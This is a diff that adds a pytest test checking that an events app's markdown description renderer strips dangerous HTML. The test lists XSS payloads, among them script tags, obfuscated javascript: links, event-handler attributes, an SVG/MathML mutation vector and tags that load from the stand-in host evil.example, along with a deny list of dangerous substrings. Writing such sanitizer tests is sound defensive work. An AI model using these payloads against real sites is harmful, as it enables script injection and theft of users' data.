@@ -192,3 +192,48 @@ def test_task_send_jam_email_rerun_sends_once():
     task_send_jam_email(event_id=event.pk + 1000)
 
     assert len(mail.outbox) == 1
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt:alert(1))",
+        "[x](  javascript:alert(1))",
+        "<a href='&#106;avascript:alert(1)'>x</a>",
+        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
+        "<img src=x onerror=alert(1)>",
+        "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg onload=alert(1)><circle r=5 /></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<iframe src=//evil.example></iframe>",
+        "<p style='background:url(javascript:alert(1))'>x</p>",
+        "<object data=//evil.example/x.swf></object>",
+        "<form action=//evil.example><input name=p></form>",
+    ],
+)
+def test_descriptions_never_carry_scripts_handlers_or_foreign_content(payload):
+    html = services.render_description(f"Welcome! **Bring a Pi.** {payload}").lower()
+
+    for danger in (
+        "<script",
+        "javascript:",
+        "onerror",
+        "onclick",
+        "onload",
+        "onmouseover",
+        "<svg",
+        "<iframe",
+        "<object",
+        "<form",
+        "<style",
+        "style=",
+        "data:text",
+        "<img",
+        "<math",
+    ):
+        assert danger not in html, (payload, html)
+    assert "<strong>bring a pi.</strong>" in html
